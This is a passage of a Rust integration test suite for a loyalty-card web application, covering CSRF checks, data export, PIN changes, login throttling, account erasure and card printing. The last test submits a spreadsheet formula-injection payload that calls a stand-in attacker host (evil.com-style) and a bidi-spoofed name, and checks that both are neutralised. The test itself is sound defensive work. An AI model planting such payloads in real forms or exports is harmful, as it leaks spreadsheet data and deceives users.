        assert!(p.set_cookie(MEMBER_COOKIE).is_none_or(|c| {
            c.to_ascii_lowercase().contains("max-age=0")
                || c.contains(&format!("{MEMBER_COOKIE}=;"))
        }));
    }
    w.get("/account").await.expect_redirect("/login");

    // CSRF: no token, a wrong one, another session's: 403 and nothing changes.
    let before = api.member(&id).await;
    let account = a.page("/account").await;
    let details = form(&account, "details");
    assert_eq!(details.action, "/account/details");
    assert!(details.value("csrf").is_some_and(|v| !v.is_empty()));
    let mut no_csrf = details.clone();
    no_csrf.fields.retain(|(k, _)| k != "csrf");
    a.submit(&no_csrf, &[("name", "Mallory")]).await.expect(403);
    for bad in ["", "wrong", foreign_csrf.as_str()] {
        a.submit(&details, &[("name", "Mallory"), ("csrf", bad)])
            .await
            .expect(403);
    }
    assert_eq!(api.member(&id).await, before, "nothing changed");

    // Details and marketing consent.
    let p = a
        .submit(
            &details,
            &[
                ("name", "Grace B. Hopper"),
                ("email", "amazing.grace@example.com"),
                ("phone", "+15550100"),
                ("marketing_consent", "on"),
            ],
        )
        .await;
    p.expect_redirect("/account");
    let now = api.member(&id).await;
    assert_eq!(now["name"], "Grace B. Hopper");
    assert_eq!(now["email"], "amazing.grace@example.com");
    assert_eq!(now["phone"], "+15550100");
    assert!(now["marketing_consent_at"].is_string(), "{now}");
    let account = a.page("/account").await;
    let details = form(&account, "details");
    assert_eq!(details.value("name"), Some("Grace B. Hopper"));
    assert_eq!(details.value("marketing_consent"), Some("on"));
    let mut unticked = details.clone();
    unticked.fields.retain(|(k, _)| k != "marketing_consent");
    a.submit(&unticked, &[]).await.expect_redirect("/account");
    let now = api.member(&id).await;
    assert!(now["marketing_consent_at"].is_null(), "withdrawn: {now}");
    assert_eq!(now["name"], "Grace B. Hopper");
    // The new email logs in.
    Browser::new(&server)
        .customer_login_ok("amazing.grace@example.com", "246810")
        .await;

    // The data download: the member and every ledger entry of theirs.
    let account = a.page("/account").await;
    let download = tags(&account)
        .into_iter()
        .find(|t| t.name == "a" && t.attr("id") == Some("download"))
        .expect("a#download");
    assert_eq!(download.attr("href"), Some("/account/data.json"));
    let p = a.get("/account/data.json").await;
    p.expect(200);
    assert!(p.content_type().contains("json"), "{:?}", p.content_type());
    assert!(
        p.header("content-disposition")
            .is_some_and(|d| d.to_ascii_lowercase().starts_with("attachment")),
        "an attachment: {:?}",
        p.header("content-disposition")
    );
    let data: Value = serde_json::from_str(&p.text).expect("JSON");
    let dm = &data["member"];
    assert_eq!(dm["id"], id.as_str());
    assert_eq!(dm["name"], "Grace B. Hopper");
    assert_eq!(dm["email"], "amazing.grace@example.com");
    assert_eq!(dm["phone"], "+15550100");
    assert_eq!(dm["card_number"], number.as_str());
    assert_eq!(dm["balance"], 32);
    let entries = api.all_transactions(&id, 100).await;
    assert_eq!(entries.len(), 4);
    assert_eq!(
        points_by_seq(data["entries"].as_array().expect("entries")),
        points_by_seq(&entries),
        "every ledger entry of the member"
    );

    // Changing the PIN needs the current one.
    let html = a.page(&card).await;
    let f = form(&html, "set-password");
    let p = a
        .submit(
            &f,
            &[
                ("current", "000000"),
                ("password", "8642097531"),
                ("confirm", "8642097531"),
            ],
        )
        .await;
    p.expect(422);
    let p = a
        .submit(
            &f,
            &[
                ("current", "246810"),
                ("password", "8642097531"),
                ("confirm", "8642097531"),
            ],
        )
        .await;
    p.expect(303);
    w.customer_login(&number, "246810").await.expect(401);
    Browser::new(&server)
        .customer_login_ok(&number, "8642097531")
        .await;

    // Log-out ends the session, for this cookie everywhere.
    let account = a.page("/account").await;
    let logout = form(&account, "logout");
    assert_eq!(logout.action, "/account/logout");
    a.submit(&logout, &[]).await.expect_redirect("/login");
    a.get("/account").await.expect_redirect("/login");
    let bare = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let old = bare
        .get(server.url("/account"))
        .header("cookie", format!("{MEMBER_COOKIE}={session}"))
        .send()
        .await
        .unwrap();
    assert_eq!(old.status(), 303, "the old cookie after log-out");

    // Staff clear the customer's password: the PIN no longer works, a new one can be set.
    let page = owner.page(&format!("/admin/members/{id}")).await;
    let reset = form(&page, "reset-customer-password");
    assert_eq!(
        reset.action,
        format!("/admin/members/{id}/customer-password")
    );
    owner.submit(&reset, &[]).await.expect(303);
    let html = cust.page(&card).await;
    assert!(
        form(&html, "set-password").value("current").is_none(),
        "no current password after a reset"
    );
    let p = Browser::new(&server)
        .customer_login(&number, "8642097531")
        .await;
    assert!(
        p.status == 401 || p.status == 429,
        "log-in after reset answered {}",
        p.status
    );
}

#[tokio::test]
async fn failed_customer_logins_are_throttled() {
    let server = TestServer::start();
    let api = server.client();
    let m = api
        .create_member(&json!({"name": "Tess Throttle", "email": "tess@example.com"}))
        .await;
    let number = str_of(&m, "card_number").to_owned();
    let mut b = Browser::new(&server);
    set_pin(&mut b, &card_path(&m), "tess@example.com", "111222").await;

    // Five failures with the card number are answered (the later ones slowly); the 6th is refused.
    let mut refused_at = None;
    for i in 1..=7 {
        let p = b.customer_login(&number, "999999").await;
        match p.status {
            401 => {}
            429 => {
                assert!(
                    p.text.contains("Too many failed log-ins"),
                    "{}",
                    snippet(&p.text)
                );
                refused_at = Some(i);
                break;
            }
            s => panic!("attempt {i}: unexpected {s}: {}", snippet(&p.text)),
        }
    }
    assert_eq!(refused_at, Some(6), "5 failures allowed, the 6th refused");
    // Even the right PIN is refused now, with the card number written any way.
    let spaced = format!("{} {} {}", &number[..4], &number[4..8], &number[8..]);
    for ident in [number.as_str(), spaced.as_str()] {
        let p = b.customer_login(ident, "111222").await;
        p.expect(429);
        assert!(p.text.contains("Too many failed log-ins"));
        assert!(p.set_cookie(MEMBER_COOKIE).is_none(), "no session");
    }
    b.get("/account").await.expect_redirect("/login");
    // The account is throttled, not the way it is named: the email is refused too
    // (else each identifier would give another five guesses at a 6-digit PIN).
    let p = b.customer_login("tess@example.com", "111222").await;
    assert_eq!(
        p.status,
        429,
        "log-in by email after 5 failures by card number: {} {:?}",
        p.status,
        p.location()
    );
    assert!(p.set_cookie(MEMBER_COOKIE).is_none(), "no session");
}

// ---------------------------------------------------------------------------------------------
// 5. Erasure.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn an_erased_customer_leaves_only_anonymous_ledger_entries() {
    let (server, mut owner, api) = owner_session().await;
    let erin = api
        .create_member(&json!({
            "name": "Erin Eraseme",
            "email": "erin@example.com",
            "phone": "+15550199",
            "marketing_consent": true
        }))
        .await;
    let id = id_of(&erin);
    let number = str_of(&erin, "card_number").to_owned();
    let card = card_path(&erin);
    let kim = id_of(&api.create_member(&json!({"name": "Kim Kept"})).await);
    api.earn(&id, 60).await;
    let bun = id_of(
        &api.post("/rewards", &json!({"name": "Bun", "cost": 25}))
            .await
            .expect_status(201),
    );
    api.post_idem(
        &format!("/members/{id}/redemptions"),
        &common::fresh_key(),
        &json!({"reward_id": bun}),
    )
    .await
    .expect_status(201);
    api.earn(&kim, 70).await;
    let before = api.all_transactions(&id, 100).await;
    assert_eq!(api.balance(&id).await, 35);

    // Erin asks for erasure from her account.
    let mut c = Browser::new(&server);
    set_pin(&mut c, &card, "erin@example.com", "975310").await;
    c.customer_login_ok("erin@example.com", "975310").await;
    let account = c.page("/account").await;
    let ask = form(&account, "erase");
    assert_eq!(ask.action, "/account/erase");
    let p = c.submit(&ask, &[]).await;
    p.expect(200);
    // (The wording of #result is checked last, so a different sentence does not hide the rest.)
    let result = text_of(&p.text, "result");
    assert_eq!(api.member(&id).await["name"], "Erin Eraseme", "only asked");

    // Staff see the request; only the owner may erase.
    let page = owner.page(&format!("/admin/members/{id}")).await;
    assert!(has_id(&page, "erasure-requested"), "#erasure-requested");
    let erase = form(&page, "erase");
    assert_eq!(erase.action, format!("/admin/members/{id}/erase"));
    let other = owner.page(&format!("/admin/members/{kim}")).await;
    assert!(!has_id(&other, "erasure-requested"), "Kim asked nothing");
    add_user(&server, "sam", "staff");
    let mut staff = Browser::new(&server);
    staff.login_ok("sam", PASSWORD).await;
    let page = staff.page(&format!("/admin/members/{id}")).await;
    assert!(has_id(&page, "erasure-requested"), "staff see it too");
    staff
        .post_form(&format!("/admin/members/{id}/erase"), &[])
        .await
        .expect(403);
    assert_eq!(api.member(&id).await["name"], "Erin Eraseme");

    // The owner erases.
    owner
        .submit(&erase, &[])
        .await
        .expect_redirect(&format!("/admin/members/{id}"));
    let m = api.member(&id).await;
    assert!(m["name"].is_null(), "{m}");
    assert!(m["email"].is_null(), "{m}");
    assert!(m["phone"].is_null(), "{m}");
    assert_eq!(m["status"], "erased");
    assert_eq!(m["balance"], 0);
    assert!(!m.to_string().contains("Erin"), "no trace of the name: {m}");

    // The ledger keeps every entry; the balance went to zero through an `expire` entry.
    let after = api.all_transactions(&id, 100).await;
    assert_eq!(after.len(), before.len() + 1, "one entry more");
    assert_eq!(
        points_by_seq(&after[1..]),
        points_by_seq(&before),
        "earlier entries remain"
    );
    let last = &after[0];
    assert_eq!(last["kind"], "expire", "{last}");
    assert_eq!(last["points"], -35, "{last}");
    assert_eq!(last["reason"], "account erased", "{last}");

    // The card and the log-in are gone.
    Browser::new(&server)
        .get(&card)
        .await
        .expect_card_not_found();
    for ident in ["erin@example.com", number.as_str()] {
        let p = Browser::new(&server).customer_login(ident, "975310").await;
        p.expect(401);
    }
    let p = c.get("/account").await;
    assert!(
        !p.text.contains("Eraseme") && !p.text.contains("erin@example.com"),
        "the old session shows nothing of Erin"
    );

    // Nothing of Erin in search or export.
    for q in ["erin@example.com", "Erin"] {
        let p = owner
            .get(&format!("/admin/members?q={}", common::encode(q)))
            .await;
        p.expect(200);
        assert!(
            !p.text.contains(&format!("/admin/members/{id}\"")),
            "search {q:?} finds the erased member"
        );
    }
    let csv = owner.get("/admin/members/export.csv").await;
    csv.expect(200);
    assert!(!csv.text.contains("Eraseme") && !csv.text.contains("erin@example.com"));

    // The ledger still verifies, and the dashboard adds up.
    let out = server.cli(&["verify"]);
    let line = common::ok(&out);
    assert!(line.trim().starts_with("ok:"), "verify: {line:?}");
    let sum: i64 = members(&api)
        .await
        .iter()
        .map(|m| m["balance"].as_i64().unwrap())
        .sum();
    assert_eq!(sum, 70);
    let dash = owner.page("/admin").await;
    assert_eq!(data_value(&dash, "stat-outstanding"), sum);

    // The customer was told in the contract's words.
    assert!(
        result.to_lowercase().contains("erasure requested"),
        "#result after POST /account/erase: {result:?}"
    );
}

// ---------------------------------------------------------------------------------------------
// 6. A new card.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_new_card_retires_the_old_link_and_number() {
    let (server, mut owner, api) = owner_session().await;
    let m = api.create_member(&json!({"name": "Rory Rotate"})).await;
    let id = id_of(&m);
    api.earn(&id, 25).await;
    let old_card = card_path(&m);
    let old_number = str_of(&m, "card_number").to_owned();
    let mut anon = Browser::new(&server);
    anon.page(&old_card).await;

    let page = owner.page(&format!("/admin/members/{id}")).await;
    let f = form(&page, "new-card");
    assert_eq!(f.action, format!("/admin/members/{id}/new-card"));
    assert!(f.value("csrf").is_some_and(|v| !v.is_empty()));
    owner
        .submit(&f, &[])
        .await
        .expect_redirect(&format!("/admin/members/{id}"));

    let now = api.member(&id).await;
    let new_card = card_path(&now);
    let new_number = str_of(&now, "card_number").to_owned();
    assert_ne!(new_card, old_card, "a new token");
    assert_ne!(new_number, old_number, "a new card number");
    assert!(new_number.len() == 12 && luhn_ok(&new_number));
    assert_eq!(now["balance"], 25, "balance unchanged");

    anon.get(&old_card).await.expect_card_not_found();
    let html = anon.page(&new_card).await;
    assert_eq!(data_value(&html, "balance"), 25);
    assert_eq!(digits(&text_of(&html, "card-number")), new_number);
    let qr = svg_markup(&html, |t| t.attr("id") == Some("card-qr")).unwrap();
    assert!(qr_encodes(qr, &server.url(&new_card)), "QR of the new URL");
    let bar = svg_markup(&html, |t| t.attr("id") == Some("card-barcode")).unwrap();
    assert!(
        barcode_encodes(bar, &new_number),
        "bar code of the new number"
    );

    let p = owner.get(&format!("/admin/members?q={old_number}")).await;
    p.expect(200);
    assert!(
        text(&p.text).contains("No member has card number"),
        "{}",
        snippet(&p.text)
    );
    owner
        .get(&format!("/admin/members?q={new_number}"))
        .await
        .expect_redirect(&format!("/admin/members/{id}"));
    api.get(&format!("/members/by-card/{old_number}"))
        .await
        .expect_problem(404, "not_found");
    assert_eq!(
        api.get(&format!("/members/by-card/{new_number}"))
            .await
            .expect_status(200)["id"],
        id.as_str()
    );
    let page = owner.page(&format!("/admin/members/{id}")).await;
    assert_eq!(digits(&text_of(&page, "card-number")), new_number);
}

/// The card's QR code and barcode on its page, checked against its link and number.
fn card_codes(html: &str, url: &str, number: &str) -> (String, String) {
    let qr = svg_markup(html, |t| t.attr("id") == Some("card-qr")).unwrap();
    assert!(qr_encodes(qr, url), "QR code of {url}");
    let bar = svg_markup(html, |t| t.attr("id") == Some("card-barcode")).unwrap();
    assert!(barcode_encodes(bar, number), "barcode of {number}");
    (qr.to_owned(), bar.to_owned())
}

#[tokio::test]
async fn card_pages_show_their_own_codes_again_and_a_new_card_its_new_ones() {
    let (server, mut owner, api) = owner_session().await;
    let ada = api.create_member(&json!({"name": "Ada Cached"})).await;
    let bob = api.create_member(&json!({"name": "Bob Cached"})).await;
    let mut anon = Browser::new(&server);
    // Each page twice: the codes are drawn once and kept, and each card keeps its own.
    let mut shown = Vec::new();
    for m in [&ada, &bob] {
        let (path, number) = (card_path(m), str_of(m, "card_number"));
        let first = card_codes(&anon.page(&path).await, &server.url(&path), number);
        let again = card_codes(&anon.page(&path).await, &server.url(&path), number);
        assert_eq!(first, again, "{path} shows the same codes each time");
        shown.push(first);
    }
    assert_ne!(shown[0], shown[1], "two cards, two sets of codes");

    // A lost card: the new link and number are drawn, never the old, cached codes.
    let id = id_of(&ada);
    let page = owner.page(&format!("/admin/members/{id}")).await;
    owner
        .submit(&form(&page, "new-card"), &[])
        .await
        .expect_redirect(&format!("/admin/members/{id}"));
    let now = api.member(&id).await;
    let (path, number) = (card_path(&now), str_of(&now, "card_number"));
    assert_ne!(path, card_path(&ada), "a new token");
    let new = card_codes(&anon.page(&path).await, &server.url(&path), number);
    assert_ne!(new.0, shown[0].0, "the new card's QR code");
    assert_ne!(new.1, shown[0].1, "the new card's barcode");
    anon.get(&card_path(&ada)).await.expect_card_not_found();
    let bob_path = card_path(&bob);
    let bob_again = card_codes(
        &anon.page(&bob_path).await,
        &server.url(&bob_path),
        str_of(&bob, "card_number"),
    );
    assert_eq!(bob_again, shown[1], "the other card is unchanged");
}

// ---------------------------------------------------------------------------------------------
// 7. Printed cards.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn member_cards_print_ten_to_a_sheet() {
    let (_server, mut owner, api) = owner_session().await;
    save_settings(&mut owner, &[("business_name", "Café Nord")], &[]).await;
    let mut all = Vec::new();
    for n in 0..11 {
        all.push(
            api.create_member(&json!({"name": format!("Printed Person{n:02}")}))
                .await,
        );
    }
    let numbers = |ms: &[Value]| -> BTreeSet<String> {
        ms.iter()
            .map(|m| str_of(m, "card_number").to_owned())
            .collect()
    };
    let query = |ms: &[Value], paper: &str| -> String {
        let mut q: Vec<String> = ms.iter().map(|m| format!("members={}", id_of(m))).collect();
        q.push(format!("paper={paper}"));
        format!("/admin/cards?{}", q.join("&"))
    };

    // Two members on A4, then on letter.
    for paper in ["a4", "letter"] {
        let html = owner.page(&query(&all[..2], paper)).await;
        assert_eq!(sheets(&html).len(), 1, "{paper}: one sheet");
        assert_eq!(print_cards(&html).len(), 2, "{paper}: two cards");
        let printed: BTreeSet<String> = printed_numbers(&html, "Café Nord").into_iter().collect();
        assert_eq!(printed, numbers(&all[..2]), "{paper}: their numbers");
        for m in &all[..2] {
            let url = str_of(m, "card_url");
            assert!(
                qr_encodes(printed_qr(&html, str_of(m, "card_number")), url),
                "{paper}: the printed QR code opens {url}"
            );
        }
        assert!(
            !select(&html, |t| t.has_class("crop")).is_empty(),
            "{paper}: crop marks"
        );
    }

    // Eleven members: two sheets, ten and one.
    let html = owner.page(&query(&all, "a4")).await;
    let pages = sheets(&html);
    assert_eq!(pages.len(), 2, "11 cards take two sheets");
    assert_eq!(print_cards(pages[0].inner).len(), 10);
    assert_eq!(print_cards(pages[1].inner).len(), 1);
    let printed: BTreeSet<String> = printed_numbers(&html, "Café Nord").into_iter().collect();
    assert_eq!(printed, numbers(&all));

    // Ticking members in the list prints their cards.
    let list = owner.page("/admin/members").await;
    let print = select(&list, |t| t.name == "form" && t.attr("id") == Some("print"))
        .into_iter()
        .next()
        .unwrap_or_else(|| panic!("no form#print: {}", snippet(&list)));
    let pf = Form::from_elem(&print, "/admin/cards");
    assert_eq!(pf.action, "/admin/cards");
    assert_eq!(pf.method, "get");
    let boxes: Vec<String> = tags(&list)
        .into_iter()
        .filter(|t| {
            t.name == "input"
                && t.attr("type") == Some("checkbox")
                && t.attr("name") == Some("members")
        })
        .filter_map(|t| t.attr("value").map(str::to_owned))
        .collect();
    assert!(boxes.len() >= 2, "checkboxes name=members: {boxes:?}");
    let p = owner
        .submit(
            &pf,
            &[
                ("members", &boxes[0]),
                ("members", &boxes[1]),
                ("paper", "a4"),
            ],
        )
        .await;
    p.expect(200);
    let mut ticked = Vec::new();
    for id in &boxes[..2] {
        ticked.push(api.member(id).await);
    }
    let printed: BTreeSet<String> = printed_numbers(&p.text, "Café Nord").into_iter().collect();
    assert_eq!(printed, numbers(&ticked));

    // A PDF, where there is one.
    let pdf = owner
        .get(&format!(
            "/admin/cards.pdf?members={}&paper=a4",
            id_of(&all[0])
        ))
        .await;
    if pdf.status == 200 {
        assert!(pdf.content_type().starts_with("application/pdf"));
        assert!(pdf.bytes.starts_with(b"%PDF"), "a PDF");
    } else {
        assert_eq!(pdf.status, 404, "cards.pdf is either there or not");
    }
}

/// The blank card token the member search leads to for `number`.
async fn blank_token(owner: &mut Browser, number: &str) -> String {
    let p = owner.get(&format!("/admin/members?q={number}")).await;
    p.expect(303);
    let loc = p.location().unwrap();
    loc.strip_prefix("/admin/members/new?card=")
        .unwrap_or_else(|| panic!("blank card {number} leads to {loc:?}"))
        .split('&')
        .next()
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn blank_cards_are_claimed_at_the_counter_or_by_joining() {
    let (server, mut owner, api) = owner_session().await;
    let cards = owner.page("/admin/cards").await;
    assert!(print_cards(&cards).is_empty(), "no cards without members");
    let f = form(&cards, "blank-cards");
    assert_eq!(f.action, "/admin/cards/blank");
    assert!(f.value("csrf").is_some_and(|v| !v.is_empty()));
    let p = owner.submit(&f, &[("n", "3"), ("paper", "a4")]).await;
    p.expect(200);
    let sheet = p.text.clone();
    let blank = printed_numbers(&sheet, "My Business");
    assert_eq!(blank.len(), 3, "three blank cards");
    assert_eq!(blank.iter().collect::<BTreeSet<_>>().len(), 3, "distinct");
    assert!(
        members(&api).await.is_empty(),
        "blank cards are not members"
    );
    let p = owner.submit(&f, &[("n", "1"), ("paper", "letter")]).await;
    p.expect(200);
    assert_eq!(print_cards(&p.text).len(), 1, "letter works too");
    let p = owner.submit(&f, &[("n", "201"), ("paper", "a4")]).await;
    p.expect(422);
    assert!(print_cards(&p.text).is_empty());

    let t1 = blank_token(&mut owner, &blank[0]).await;
    let t2 = blank_token(&mut owner, &blank[1]).await;
    let t3 = blank_token(&mut owner, &blank[2]).await;
    assert!(t1 != t2 && t2 != t3 && t1 != t3);
    for (n, t) in blank.iter().zip([&t1, &t2, &t3]) {
        let url = server.url(&format!("/c/{t}"));
        assert!(
            qr_encodes(printed_qr(&sheet, n), &url),
            "the blank card {n} has a QR code of {url}"
        );
    }

    // Before anyone has it, the card page offers to join with it.
    let mut anon = Browser::new(&server);
    for t in [&t1, &t2, &t3] {
        let html = anon.page(&format!("/c/{t}")).await;
        assert!(has_id(&html, "unclaimed"), "#unclaimed: {}", snippet(&html));
        assert!(
            tags(&html)
                .iter()
                .any(|a| a.name == "a" && a.attr("href") == Some(&format!("/join?card={t}"))),
            "a link to /join?card={t}"
        );
    }

    // At the counter: the form has the number filled in; creating the member claims the card.
    let new = owner.page(&format!("/admin/members/new?card={t1}")).await;
    let nf = form_by_action(&new, "/admin/members")
        .unwrap_or_else(|| panic!("no form posting to /admin/members: {}", snippet(&new)));
    assert_eq!(nf.value("card_number"), Some(blank[0].as_str()));
    assert_eq!(nf.value("card"), Some(t1.as_str()));
    let p = owner.submit(&nf, &[("name", "Carl Counter")]).await;
    p.expect(303);
    let loc = p.location().unwrap().to_owned();
    let carl = loc
        .strip_prefix("/admin/members/")
        .unwrap_or_else(|| panic!("redirect to {loc:?}"))
        .to_owned();
    let m = api.member(&carl).await;
    assert_eq!(m["card_number"], blank[0].as_str());
    assert_eq!(m["card_token"], t1.as_str(), "the printed QR code works");
    let html = anon.page(&format!("/c/{t1}")).await;
    assert!(!has_id(&html, "unclaimed"));
    assert_eq!(text_of(&html, "first-name"), "Carl");
    assert_eq!(digits(&text_of(&html, "card-number")), blank[0]);
    owner
        .get(&format!("/admin/members?q={}", blank[0]))
        .await
        .expect_redirect(&format!("/admin/members/{carl}"));

    // By joining: the card page's link leads to a join form that claims the card.
    let mut jo = Browser::new(&server);
    let html = jo.page(&format!("/c/{t2}")).await;
    assert!(has_id(&html, "unclaimed"));
    let jf = jo.join_form(&format!("/join?card={t2}")).await;
    assert_eq!(jf.value("card"), Some(t2.as_str()));
    let mut thief = Browser::new(&server);
    let thief_form = thief.join_form(&format!("/join?card={t2}")).await;
    tokio::time::sleep(HUMAN_PAUSE).await;
    let p = jo
        .submit(&jf, &[("name", "Jo Joiner"), ("email", "jo@example.com")])
        .await;
    p.expect(303);
    let loc = p.location().unwrap().to_owned();
    let loc = loc.strip_prefix(&server.url("")).unwrap_or(&loc).to_owned();
    assert_eq!(
        loc,
        format!("/c/{t2}?welcome=1"),
        "lands on the printed card"
    );
    let m = member_with_email(&api, "jo@example.com")
        .await
        .expect("Jo is a member");
    assert_eq!(m["card_token"], t2.as_str());
    assert_eq!(m["card_number"], blank[1].as_str());
    let html = jo.page(&loc).await;
    assert!(!has_id(&html, "unclaimed"));
    assert_eq!(text_of(&html, "first-name"), "Jo");
    assert_eq!(digits(&text_of(&html, "card-number")), blank[1]);

    // Someone else with the same link cannot take Jo's card.
    let p = thief
        .submit(
            &thief_form,
            &[("name", "Tom Thief"), ("email", "tom@example.com")],
        )
        .await;
    assert!(p.status < 500, "second claim answered {}", p.status);
    let jo_now = api.member(&id_of(&m)).await;
    assert_eq!(jo_now["card_token"], t2.as_str(), "Jo keeps the card");
    if let Some(tom) = member_with_email(&api, "tom@example.com").await {
        assert_ne!(tom["card_token"], t2.as_str());
        assert_ne!(tom["card_number"], blank[1].as_str());
    }

    // The third card is still waiting for someone.
    let html = anon.page(&format!("/c/{t3}")).await;
    assert!(has_id(&html, "unclaimed"));
}

// ---------------------------------------------------------------------------------------------
// What anyone can type on /join reaches the owner's spreadsheet only as text.
// ---------------------------------------------------------------------------------------------

#[tokio::test]
async fn a_formula_typed_on_the_join_form_is_exported_as_text_and_bidi_names_are_refused() {
    let (server, mut owner, api) = owner_session().await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    let mut joiner = Browser::new(&server);
    let jf = joiner.join_form("/join").await;
    let mut spoofer = Browser::new(&server);
    let sf = spoofer.join_form("/join").await;
    tokio::time::sleep(HUMAN_PAUSE).await;

    let p = spoofer
        .submit(&sf, &[("name", "Anna\u{202E}moc.live"), ("email", "")])
        .await;
    p.expect(422);
    assert!(members(&api).await.is_empty(), "nothing was created");

    let p = joiner
        .submit(
            &jf,
            &[
                ("name", formula),
                ("email", "formula@example.com"),
                ("phone", "+44 20 7946 0958"),
            ],
        )
        .await;
    p.expect(303);

    let csv = owner.get("/admin/members/export.csv").await;
    csv.expect(200);
    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let col = |n: &str| headers.iter().position(|h| h == n).unwrap();
    let row = reader.records().next().expect("one member").unwrap();
    assert_eq!(&row[col("name")], format!("'{formula}"), "{}", csv.text);
    assert_eq!(&row[col("phone")], "'+442079460958", "{}", csv.text);
    for cell in row.iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "no cell starts a formula: {cell:?}"
        );
    }
}
